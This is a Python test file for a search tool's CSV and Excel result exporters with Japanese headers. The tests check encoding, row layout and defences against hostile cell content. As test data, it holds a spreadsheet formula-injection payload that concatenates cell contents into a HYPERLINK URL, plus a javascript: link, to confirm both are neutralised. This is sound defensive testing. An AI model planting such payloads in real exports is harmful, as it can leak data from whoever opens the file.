"""Lists of results to take away."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from datetime import UTC, datetime
from zoneinfo import ZoneInfo

import openpyxl
import pytest

from locator_search.adapters.sheets.csv_table import CsvSheetWriter
from locator_search.adapters.sheets.excel import ExcelSheetWriter
from locator_search.drive_search.sheet import results_sheet
from locator_search.model import Evidence, GroupMember, SearchOutcome
from locator_search.ports.sheets import Sheet
from tests.fakes.scripted_index import evidence

ZONE = ZoneInfo("Asia/Tokyo")


def sheet(*shown: Evidence) -> Sheet:
    outcome = SearchOutcome("found", "1 件見つかりました。", shown)
    return results_sheet("見積", outcome, shown, datetime(2026, 11, 20, tzinfo=UTC), ZONE, "ja")


def in_csv(*shown: Evidence) -> list[dict[str, str]]:
    written = CsvSheetWriter().write(sheet(*shown))
    return list(csv.DictReader(io.StringIO(written.decode("utf-8-sig"))))


def test_a_list_as_csv_has_one_row_per_file_and_the_mark_by_which_excel_reads_japanese() -> None:
    version = GroupMember(replace(evidence(2), file_name="資料2_旧.pdf"), "version", 0.9)
    first = replace(evidence(1), group=(version,), owner="佐藤", document_date="2026-09")
    assert CsvSheetWriter().write(sheet(first)).startswith(b"\xef\xbb\xbf")
    shown, folded, last = in_csv(first, evidence(3))
    assert shown["ファイル名"] == "資料1.pdf"
    assert shown["フォルダー"] == "会社/営業部"
    assert shown["更新日時（Asia/Tokyo）"] == "2026-10-02 09:00"
    assert (shown["文書の日付"], shown["所有者"], shown["ファイル ID"]) == ("2026-09", "佐藤", "file-1")
    assert (folded["番号"], folded["まとめ"], folded["ファイル名"]) == ("1", "別の版", "資料2_旧.pdf")
    assert (last["番号"], last["まとめ"]) == ("2", "")


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝"])
def test_no_cell_begins_like_a_formula(begin: str) -> None:
    name = f'{begin}HYPERLINK("http://127.0.0.1/?"&A1,"見積")'
    hostile = replace(evidence(1), file_name=name, summary=name, snippet=name, owner=name, folder_path=name)
    [row] = in_csv(hostile)
    assert row["ファイル名"].startswith("'")
    assert not [cell for cell in row.values() if cell.lstrip().startswith(("=", "+", "-", "@", "＝"))]
    page = openpyxl.load_workbook(io.BytesIO(ExcelSheetWriter().write(sheet(hostile))))["見つかったファイル"]
    assert "f" not in {cell.data_type for row in page.iter_rows() for cell in row}
    assert str(page["B3"].value).startswith("'")


def test_a_cell_of_csv_is_one_line() -> None:
    [row] = in_csv(replace(evidence(1), snippet='見積\n合計, "税込"\x00'))
    assert row["該当箇所"] == '見積 合計, "税込"'


def test_in_excel_links_of_the_web_lead_there_and_others_do_not() -> None:
    local = replace(evidence(2), link="javascript:alert(1)")
    page = openpyxl.load_workbook(io.BytesIO(ExcelSheetWriter().write(sheet(evidence(1), local))))["見つかったファイル"]
    links = {cell.value: cell.hyperlink for row in page.iter_rows(min_row=3) for cell in row if cell.hyperlink}
    assert [link.target for link in links.values()] == ["https://example.com/1"]
